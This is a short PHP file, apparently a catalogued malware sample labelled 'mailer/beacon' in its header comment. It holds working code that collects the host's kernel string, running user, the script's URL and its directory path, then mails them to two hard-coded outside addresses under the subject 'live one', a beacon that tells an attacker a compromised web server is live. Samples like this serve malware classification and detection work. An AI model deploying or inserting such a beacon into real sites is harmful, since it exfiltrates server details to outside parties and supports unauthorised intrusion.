<?php
/* Family: mailer/beacon
 * Style: mail-home beacon without any request input
 * Trait: host name, kernel, user and the script's URL and path mailed to hard-coded outside addresses
 */
@set_time_limit(0);
$who  = @get_current_user();
$kern = @php_uname();
$link = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];
$place = dirname($_SERVER['SCRIPT_FILENAME']);
$report  = "<b>kernel:</b> {$kern}<br>";
$report .= "<b>user:</b> {$who}<br>";
$report .= "<b>link:</b> {$link}<br>";
$report .= "<b>path:</b> {$place}<br>";
$dest = "drop.box.one@mailbox-demo.test,second.drop@inbox-demo.test";
$hdr  = "From: <no-reply>\r\n";
$hdr .= "MIME-Version: 1.0\r\n";
$hdr .= "Content-type: text/html; charset=iso-8859-1\r\n";
if (mail($dest, 'live one', $report, $hdr)) { echo 'ok'; } else { echo 'no'; }
